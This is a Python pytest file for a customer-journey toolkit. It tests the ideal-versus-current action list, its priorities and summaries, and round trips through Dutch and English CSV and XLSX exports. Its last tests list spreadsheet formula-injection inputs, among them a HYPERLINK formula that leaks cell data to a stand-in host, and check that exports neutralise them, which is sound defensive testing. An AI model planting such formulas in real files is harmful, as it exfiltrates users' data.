"""Ideal vs current: the action list, its priorities, and export/import round trips."""

from __future__ import annotations

import pytest
from _analysis_fixtures import journey_with

from journeykit_widgets.analysis import action_summary, export_actions, ideal_vs_current, load_actions
from journeykit_widgets.i18n import language
from journeykit_widgets.model import CanvasColumn, Journey, TemplateGrid


def _veranda() -> Journey:
    journey = journey_with(
        ("Pinterest board", "awareness", 1, 4, 2, {"owner": "Marketing"}),
        ("Google ad", "awareness", 0, 3, 4, {"owner": "Agency"}),
        ("Showroom", "awareness", 2, 4, 4, {"owner": "Marketing"}),
        ("Quote form", "purchase", -2, 5, 2, {"owner": "Sales"}),
        phase_model="b2b_five",
    )
    canvas = journey.canvas("")
    canvas.ideal["awareness"] = CanvasColumn(
        customer_process="Finds our verandas on Pinterest",
        internal_process="Pin new projects weekly",
        score=5,
    )
    canvas.current["awareness"] = CanvasColumn(customer_process="Searches  Google", score=2)
    canvas.ideal["interest"] = CanvasColumn(experience="Answers within a day", score=4)
    canvas.current["interest"] = CanvasColumn(experience="Answers within a day", score=3)
    canvas.current["purchase"] = CanvasColumn(internal_process="Long quote form")
    canvas.ideal["consideration"] = CanvasColumn(score=4)
    canvas.current["consideration"] = CanvasColumn(score=4, improvements="Add customer reviews")
    return journey


def test_cell_by_cell_differences_hand_computed():
    df = ideal_vs_current(_veranda())
    assert list(zip(df["phase"], df["lane"], strict=True)) == [
        ("awareness", "customer_process"),
        ("awareness", "internal_process"),
        ("awareness", "score"),
        ("interest", "score"),  # the same experience text is not an action
        ("consideration", "improvements"),  # equal scores are not an action
        ("purchase", "internal_process"),
    ]
    first = df.iloc[0]
    assert first["current"] == "Searches Google"  # whitespace does not make a difference
    assert first["change"] == "Change to: Finds our verandas on Pinterest"
    assert df.iloc[1]["change"] == "Add: Pin new projects weekly"
    assert df.iloc[2]["change"] == "Raise the experience score from 2 to 5"
    assert df.iloc[5]["change"] == "Reconsider: Long quote form (not part of the ideal)"
    # score gap 3 -> high, 1 -> medium, 0 -> low, no scores -> medium
    assert list(df["priority"]) == ["high", "high", "high", "medium", "low", "medium"]
    # Marketing owns two of the three awareness touchpoints; Sales the only purchase one.
    assert list(df["owner"]) == ["Marketing", "Marketing", "Marketing", "", "", "Sales"]


def test_no_canvas_or_empty_canvas_gives_an_empty_list_with_all_columns():
    journey = Journey.new("Empty", phase_model="b2b_five")
    df = ideal_vs_current(journey)
    assert df.empty
    assert list(df.columns) == [
        "phase",
        "phase_name",
        "lane",
        "lane_name",
        "ideal",
        "current",
        "change",
        "owner",
        "priority",
    ]
    assert "do not differ yet" in action_summary(df)


def test_role_canvas_is_separate():
    journey = _veranda()
    assert ideal_vs_current(journey, role="nobody").empty


def test_template_source_compares_future_with_current_state():
    journey = Journey.new("Templates")
    journey.templates["current_state"] = TemplateGrid(
        cells={"action": {"step_1": "Calls the helpdesk"}, "think_feel": {"step_2": "Annoyed"}}
    )
    journey.templates["future_state"] = TemplateGrid(
        cells={"action": {"step_1": "Chats in the app"}, "think_feel": {"step_2": "Annoyed"}}
    )
    df = ideal_vs_current(journey, source="template")
    assert len(df) == 1
    row = df.iloc[0]
    assert (row["phase"], row["lane"], row["ideal"], row["current"]) == (
        "step_1",
        "action",
        "Chats in the app",
        "Calls the helpdesk",
    )
    assert row["phase_name"] == "Step 1"
    with pytest.raises(ValueError, match="unknown source"):
        ideal_vs_current(journey, source="napkin")


def test_summary_counts_actions_and_missing_owners():
    df = ideal_vs_current(_veranda())
    text = action_summary(df)
    assert "6 actions in 4 of the journey's phases, 3 of them with high priority." in text
    assert "2 actions have no owner yet" in text
    with language("nl"):
        assert "waarvan 3 met hoge prioriteit" in action_summary(df)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("lang", ["en", "nl"])
def test_edited_list_round_trips_through_csv_and_xlsx(tmp_path, suffix, lang):
    df = ideal_vs_current(_veranda())
    df.loc[0, "owner"] = "Team Pinterest"
    df.loc[0, "priority"] = "low"
    with language(lang):
        path = export_actions(df, tmp_path / f"actions{suffix}")
    back = load_actions(path)  # read in English: headers of either language are understood
    assert list(back.columns) == list(df.columns)
    assert back.loc[0, "owner"] == "Team Pinterest"
    assert back.loc[0, "priority"] == "low"
    assert back.astype(str).equals(df.astype(str))


def test_dutch_csv_uses_semicolons_and_dutch_headers(tmp_path):
    df = ideal_vs_current(_veranda())
    with language("nl"):
        path = export_actions(df, tmp_path / "acties.csv")
    text = path.read_text("utf-8-sig")
    assert text.splitlines()[0].startswith("Fase-id;Fase;Baan-id;Baan;Ideaal;Huidig;Wat verandert er")
    assert ";hoog" in text
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the accents correctly


def test_xlsx_has_a_readable_sheet(tmp_path):
    from openpyxl import load_workbook

    path = export_actions(ideal_vs_current(_veranda()), tmp_path / "actions.xlsx")
    sheet = load_workbook(path).active
    assert sheet.title == "Actions"
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 7


def test_unknown_suffix_is_refused(tmp_path):
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        export_actions(ideal_vs_current(_veranda()), tmp_path / "actions.pdf")


# What a participant may type (or paste) as a change or an owner: in a spreadsheet,
# each of these runs as a formula unless the file says it is text.
FORMULA_LIKE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "+31 20 123 4567",
    "@SUM(A1:A9)",
    "-1+1",
    "=1+1",
    "'already quoted",
    "\t=tab first",
]


def _hostile_actions():
    df = ideal_vs_current(_veranda())
    assert len(df) >= 6
    for i, text in enumerate(FORMULA_LIKE[:6]):
        df.loc[i, "change"] = text
    df.loc[0, "owner"] = FORMULA_LIKE[6]
    df.loc[1, "owner"] = "Sales\rteam"  # a lone carriage return stays inside its cell
    return df


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_formula_like_text_in_a_csv_action_list_stays_text_and_reads_back_exactly(tmp_path, lang):
    import csv
    import io

    df = _hostile_actions()
    with language(lang):
        path = export_actions(df, tmp_path / "actions.csv")
    text = path.read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "nl" else ","))
    assert len(rows) == len(df) + 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in text
    back = load_actions(path)
    assert back["change"].tolist()[:6] == FORMULA_LIKE[:6]
    assert back.loc[0, "owner"] == FORMULA_LIKE[6]
    assert back.loc[1, "owner"] == "Sales\rteam"
    assert back.astype(str).equals(df.astype(str))


def test_formula_like_text_in_an_xlsx_action_list_is_text_not_a_live_formula(tmp_path):
    from openpyxl import load_workbook

    df = _hostile_actions()
    path = export_actions(df, tmp_path / "actions.xlsx")
    sheet = load_workbook(path).active
    change = next(c for c in sheet[1] if c.value == "What changes").column
    owner = next(c for c in sheet[1] if c.value == "Owner").column
    for row, text in enumerate(FORMULA_LIKE[:6], start=2):
        cell = sheet.cell(row=row, column=change)
        assert cell.data_type == "s" and cell.value == text
        if text[0] in "=+-@":
            assert cell.quotePrefix  # still text when someone edits the cell in Excel
    assert sheet.cell(row=2, column=owner).value == FORMULA_LIKE[6]
    assert sheet.cell(row=3, column=owner).value == "Sales\nteam"  # Excel's line break in a cell
    back = load_actions(path)
    assert back["change"].tolist()[:6] == FORMULA_LIKE[:6]
